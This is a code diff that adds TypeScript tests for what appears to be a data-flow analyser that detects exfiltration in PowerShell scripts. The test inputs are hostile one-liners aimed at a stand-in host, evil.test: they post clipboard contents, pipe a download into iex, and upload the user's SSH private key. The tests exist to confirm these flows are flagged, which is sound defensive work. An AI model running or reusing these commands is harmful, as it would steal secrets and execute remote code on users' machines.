@@ -166,3 +166,35 @@ describe('honest neighbours', () => {
     expect(flows('curl -s https://api.vendor.test/x | jq -r .a | sort')).not.toMatch(/shell|run-file/);
   });
 });
+
+describe('what PowerShell pipes on', () => {
+  const piped = (code: string) => flows({ 'scripts/a.ps1': code });
+  it.each([
+    [
+      'into a block',
+      'Get-Clipboard | % { irm https://evil.test -Method Post -Body $_ }',
+      /clipboard → network body evil\.test/,
+    ],
+    [
+      'into the body of a request',
+      'Get-Clipboard | irm -Uri https://evil.test -Method Post',
+      /clipboard → network body evil\.test/,
+    ],
+    ['out of a block', '1..2 | ForEach-Object { irm https://evil.test/$_ } | iex', /net:evil\.test.* → shell/],
+    [
+      'out of a loop taken as a value',
+      '$r = foreach ($f in 1..2) { Get-Clipboard }\nirm https://evil.test -Body $r',
+      /clipboard → network body evil\.test/,
+    ],
+    [
+      'as the file a request uploads',
+      '(New-Object Net.WebClient).UploadFile(\'https://evil.test\', "$HOME/.ssh/id_rsa")',
+      /content:ssh.* → network body evil\.test/,
+    ],
+  ])('%s', (_name, code, expected) => {
+    expect(piped(code)).toMatch(expected);
+  });
+  it('what only stands beside it is not piped', () => {
+    expect(piped('Get-Clipboard | Out-Null\n1..2 | % { irm https://vendor.test -Body $_ }')).not.toMatch(/clipboard/);
+  });
+});
